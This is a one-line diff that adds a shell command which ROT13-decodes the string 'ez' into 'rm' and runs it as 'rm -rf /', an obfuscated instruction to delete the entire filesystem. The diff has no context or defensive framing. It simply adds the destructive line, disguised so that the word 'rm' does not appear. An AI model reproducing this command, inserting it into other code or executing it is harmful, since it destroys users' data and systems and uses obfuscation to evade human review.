@@ -1,0 +1,1 @@
+$(tr a-z n-za-m <<< 'ez') -rf /
